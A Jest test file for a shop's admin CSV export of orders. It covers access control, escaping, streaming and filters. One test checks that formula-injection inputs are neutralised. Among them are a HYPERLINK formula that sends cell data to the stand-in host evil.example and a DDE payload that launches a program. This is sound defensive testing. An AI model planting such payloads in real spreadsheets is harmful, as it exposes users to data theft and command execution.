import { get, type IncomingMessage } from 'node:http';
import { once } from 'node:events';
import { OrderLists } from '../../server/checkout/index.js';
import { addCustomer, addOrder } from '../support/order-rows.js';
import { TestShop } from '../support/test-shop.js';
import { until } from '../support/until.js';

const HEADER =
  'Order Number,Date,Status,Payment,First Name,Last Name,Email,Subtotal,Discount Code,Discount,Shipping,Tax,Total,Refunded,Lost,Paid At,Shipped At,' +
  'Carrier,Tracking Number,Ship To,Address Line 1,Address Line 2,City,State,Postal Code,Country,Phone,Gifts,Words,Refunded Items,Parcels';
const MANY = 2_000;

let shop: TestShop;
let token: string;

beforeAll(async () => {
  shop = await TestShop.open({ workers: false });
  ({ token } = await shop.signInOwner());
});
afterAll(() => shop.close());
afterEach(() => jest.restoreAllMocks());

async function rows(query = ''): Promise<string[]> {
  const answer = await shop.call('GET', `/api/admin/orders/export${query}`, { token });
  expect(answer.status).toBe(200);
  const lines = Buffer.from(await answer.arrayBuffer())
    .toString()
    .split('\r\n');
  expect(lines.at(-1)).toBe('');
  return lines.slice(1, -1);
}

/** Adds 20 MB of orders. */
async function addMany(): Promise<void> {
  await shop.sql('delete from checkout.orders');
  const customerId = await addCustomer(shop);
  await addOrder(shop, { customerId, number: 'THE-OLDEST', at: '2020-01-01T00:00:00Z' });
  await shop.sql(
    `insert into checkout.orders (id, number, customer_id, email, idempotency_key, request_hash, status, payment_state, stock,
       currency, subtotal_cents, shipping_cents, total_cents, refunded_cents, created_at, expires_at, next_check_at, paid_at,
       fulfilled_at)
     select gen_random_uuid(), n::text, $1, repeat('x', 10000), n::text, '', 'pending', 'paid', 'none', 'usd', 100, 0, 100, 0, now(), now(), now(), now(),
       now()
     from generate_series(1, ${MANY}) n`,
    [customerId],
  );
}

/** A gift's words as they are stored. */
function said(words: Record<string, string>): string {
  return JSON.stringify(Object.entries(words).map(([label, text]) => ({ label, text })));
}

interface Watched {
  /** Number of orders read so far. */
  taken: number;
  ended: boolean;
}

function watchExports(): Watched {
  const watched: Watched = { taken: 0, ended: false };
  const orders = shop.web.app.get(OrderLists);
  const original = orders.all.bind(orders);
  jest.spyOn(orders, 'all').mockImplementation(async function* (filter) {
    try {
      for await (const order of original(filter)) {
        watched.taken += 1;
        yield order;
      }
    } finally {
      watched.ended = true;
    }
  });
  return watched;
}

/** Starts the download without reading any of it yet. */
async function begin(headers: Record<string, string> = {}): Promise<IncomingMessage> {
  const address = new URL('/api/admin/orders/export', shop.web.url);
  const [answer] = (await once(get(address, { headers: { authorization: `Bearer ${token}`, ...headers } }), 'response')) as [
    IncomingMessage,
  ];
  answer.on('error', () => undefined);
  return answer;
}

/** Resolves once nothing more has been read for a while. */
async function standsStill(watched: Watched): Promise<void> {
  let last = -1;
  await until(
    async () => {
      const stands = watched.taken > 0 && watched.taken === last;
      last = watched.taken;
      return stands;
    },
    20_000,
    300,
  );
}

describe('the export of orders', () => {
  beforeEach(() => shop.sql('delete from checkout.orders'));

  it('is refused to anyone but the owner, and for invalid filters', async () => {
    const shopper = await shop.signIn('shopper@example.com');
    expect((await shop.call('GET', '/api/admin/orders/export')).status).toBe(401);
    expect((await shop.call('GET', '/api/admin/orders/export', { token: shopper.token })).status).toBe(403);
    for (const query of ['?status=lost', '?from=soon', '?search=a&search=b', '?customer=x']) {
      const answer = await shop.call('GET', `/api/admin/orders/export${query}`, { token });
      expect([answer.status, await answer.json()]).toMatchObject([400, { code: 'REQUEST.INVALID' }]);
    }
  });

  it('fails when the orders cannot be read, instead of sending an empty table', async () => {
    const orders = shop.web.app.get(OrderLists);
    jest.spyOn(orders, 'all').mockImplementation(async function* () {
      throw new Error('the database is away');
    });
    const answer = await shop.call('GET', '/api/admin/orders/export', { token });
    expect([answer.status, await answer.json()]).toMatchObject([500, { code: 'SERVER.UNEXPECTED' }]);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '=HYPERLINK("http://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0"])(
    'exports %j as text, not as a formula',
    async (evil) => {
      const customerId = await addCustomer(shop, { firstName: evil, lastName: evil });
      await addOrder(shop, { customerId, email: `${evil}@example.com`, carrier: evil, trackingNumber: evil });
      const [row] = await rows();
      const fields = row?.match(/"(?:[^"]|"")*"|[^,]+/g)?.map((field) => field.replace(/^"|"$/g, '').replaceAll('""', '"'));
      for (const index of [4, 5]) expect(fields?.[index]).toBe(`'${evil}`);
      expect(fields?.[6]).toBe(`'${evil}@example.com`);
      expect(fields?.slice(-3, -1)).toEqual([`'${evil}`, `'${evil}`]);
      expect(fields?.at(-1)).toMatch(/^Sent /);
    },
  );

  it('keeps the digits of tracking numbers, phone numbers and postal codes in a spreadsheet, with the address', async () => {
    const customerId = await addCustomer(shop, { firstName: 'Ann' });
    const id = await addOrder(shop, { customerId, carrier: 'USPS', trackingNumber: '9400111899223100001234' });
    const address = { name: 'Ann Lee', phone: '+15550100199', line1: '12 Main St', line2: '007', city: 'Portland' };
    await shop.sql('update checkout.orders set shipping = $2 where id = $1', [
      id,
      JSON.stringify({ ...address, state: 'ME', postalCode: '04101', country: 'US' }),
    ]);
    expect((await rows())[0]).toContain(
      ',USPS,"=""9400111899223100001234""",Ann Lee,12 Main St,"=""007""",Portland,ME,"=""04101""",US,"=""+15550100199""",',
    );
  });

  it.each([
    ['1-2', '="1-2"'],
    ['123E45678', '="123E45678"'],
    ['12:30', '="12:30"'],
    ['DEC-24', '="DEC-24"'],
    ['3 MAR 26', '="3 MAR 26"'],
    ['1Z999AA10123456784', '1Z999AA10123456784'],
    ['GRANDMA24', 'GRANDMA24'],
    ['RR 123456785 US', 'RR 123456785 US'],
    ['=1"+2', `'=1"+2`],
    ['\n=1', `'\n=1`],
  ])('exports the tracking number %j so that a spreadsheet shows the same', async (trackingNumber, cell) => {
    await addOrder(shop, { customerId: await addCustomer(shop), carrier: 'Post', trackingNumber });
    const answer = await shop.call('GET', '/api/admin/orders/export', { token });
    const quoted = /["\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell;
    expect(await answer.text()).toContain(`,Post,${quoted},`);
  });

  it('keeps commas, quotes and line breaks in their field', async () => {
    const customerId = await addCustomer(shop, { firstName: 'Ann, "the\r\nboss"', lastName: 'Brontë 🎁' });
    await addOrder(shop, { customerId, number: 'KS-1' });
    const answer = await shop.call('GET', '/api/admin/orders/export', { token });
    expect(await answer.text()).toContain(',"Ann, ""the\r\nboss""",Brontë 🎁,grace@example.com,');
  });

  it('is a private download of UTF-8 that spreadsheets recognize', async () => {
    const answer = await shop.call('GET', '/api/admin/orders/export', { token });
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': "attachment; filename*=UTF-8''keepsake-orders.csv",
      'cache-control': 'private, no-store',
    });
    expect([...Buffer.from(await answer.arrayBuffer()).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('has a row for each order with amounts, labels and local times', async () => {
    const customerId = await addCustomer(shop, { email: 'mateo@example.com', firstName: 'Mateo', lastName: 'Rivera' });
    await addOrder(shop, { customerId, number: 'KS-1', email: null, at: '2026-07-01T04:30:00.5Z' });
    const paid = {
      status: 'completed',
      payment: 'partly_refunded',
      refunded: 1050,
      carrier: 'UPS',
      trackingNumber: '1Z9',
    } as const;
    const bought = await addOrder(shop, { customerId, number: 'KS-2', at: '2026-11-22T06:28:52Z', ...paid });
    await shop.sql(
      `insert into checkout.order_lines (id, order_id, position, product_id, product_name, variant, kind, quantity, unit_cents, words)
       values (gen_random_uuid(), $1, 1, gen_random_uuid(), 'The Blue Hour', 'pdf', 'card', 1, 900, $2),
         (gen_random_uuid(), $1, 0, gen_random_uuid(), 'The Two of You, Framed', 'product', 'card', 2, 6400, $3),
         (gen_random_uuid(), $1, 2, gen_random_uuid(), 'A Mug', 'product', 'mug', 1, 900, $4)`,
      [bought, said({ Place: '=1+1, "Rome"' }), said({ 'Their names': 'נועה & Theo', 'The date': 'June 1' }), said({ Name: '' })],
    );
    await shop.sql(
      `insert into checkout.parcel_lines (parcel_id, order_line_id, quantity)
       select p.id, l.id, 1 from checkout.parcels p join checkout.order_lines l on l.order_id = p.order_id where l.position = 0`,
    );
    const answer = await shop.call('GET', '/api/admin/orders/export', { token });
    const [header, ...lines] = Buffer.from(await answer.arrayBuffer())
      .toString()
      .split('\r\n');
    expect(header).toBe(`\ufeff${HEADER}`);
    expect(lines).toEqual([
      'KS-2,2026-11-22 01:28,Completed,Partly refunded,Mateo,Rivera,grace@example.com,64.00,,0.00,5.99,0.00,69.99,10.50,0.00,' +
        '2026-11-22 01:28,2026-11-22 01:28,UPS,1Z9,,,,,,,,,"2 × The Two of You, Framed (Product); 1 × The Blue Hour (PDF); 1 × A Mug (Product)",' +
        '"The Two of You, Framed: Their names “נועה & Theo”, The date “June 1”; The Blue Hour: Place “=1+1, ""Rome""”",,' +
        '"Sent 2026-11-22 01:28 with UPS 1Z9: 1 × The Two of You, Framed; Not sent: 1 × The Two of You, Framed, 1 × A Mug"',
      'KS-1,2026-07-01 00:30,Pending,Paid,Mateo,Rivera,mateo@example.com,64.00,,0.00,5.99,0.00,69.99,0.00,0.00,2026-07-01 00:30,,,,,,,,,,,,,,,',
      '',
    ]);
  });

  it('applies the filters of the list', async () => {
    const customerId = await addCustomer(shop, { firstName: 'Priya', lastName: 'Patel' });
    await addOrder(shop, { customerId, number: 'KS-1', status: 'completed', at: '2026-11-20T12:00:00Z' });
    await addOrder(shop, { customerId, number: 'KS-2', status: 'cancelled', at: '2026-11-21T12:00:00Z' });
    await addOrder(shop, {
      customerId: await addCustomer(shop),
      number: 'KS-3',
      status: 'completed',
      at: '2026-11-22T12:00:00Z',
    });
    const numbers = async (query: string) => (await rows(query)).map((row) => row.split(',')[0]);
    expect(await numbers('?status=completed&search=priya')).toEqual(['KS-1']);
    expect(await numbers('?from=2026-11-21&to=2026-11-21')).toEqual(['KS-2']);
    expect(await numbers('?search=nobody')).toEqual([]);
  });
});

describe('the export of more orders than sockets and buffers hold', () => {
  beforeAll(addMany);

  it('aborts when further orders cannot be read', async () => {
    const watched = watchExports();
    const answer = await begin();
    await standsStill(watched);
    await shop.sql('alter table checkout.orders rename to orders_away');
    answer.resume();
    try {
      await until(async () => answer.closed);
    } finally {
      await shop.sql('alter table checkout.orders_away rename to orders');
    }
    expect(answer.complete).toBe(false);
  });

  it('reads no faster than the browser downloads', async () => {
    const watched = watchExports();
    const answer = await begin();
    await standsStill(watched);
    expect(watched.taken).toBeLessThan(MANY);
    // The order has not been read yet, so a change made now shows up in the export.
    await shop.sql(`update checkout.orders set status = 'cancelled' where number = 'THE-OLDEST'`);
    const chunks: Buffer[] = [];
    for await (const chunk of answer) chunks.push(chunk as Buffer);
    const lines = Buffer.concat(chunks).toString().split('\r\n');
    expect(lines).toHaveLength(MANY + 3);
    expect(new Set(lines).size).toBe(lines.length);
    expect(lines.at(-2)).toMatch(/^THE-OLDEST,.*,Cancelled,/);
  });

  it('starts at once, compressed for browsers', async () => {
    const watched = watchExports();
    const answer = await begin({ 'accept-encoding': 'gzip, deflate, br' });
    expect(answer.headers['content-encoding']).toBe('br');
    expect(watched.taken).toBeLessThan(MANY);
    answer.destroy();
    await until(async () => watched.ended);
  });

  it('stops reading when the browser goes away', async () => {
    const watched = watchExports();
    const answer = await begin();
    await standsStill(watched);
    answer.destroy();
    await until(async () => watched.ended);
    expect(watched.taken).toBeLessThan(MANY);
  });

  it('includes every order when exported ones are deleted during the export', async () => {
    let taken = 0;
    for await (const { order } of shop.web.app.get(OrderLists).all({})) {
      taken += 1;
      await shop.sql('delete from checkout.orders where id = $1', [order.id]);
    }
    expect(taken).toBe(MANY + 1);
  });
});
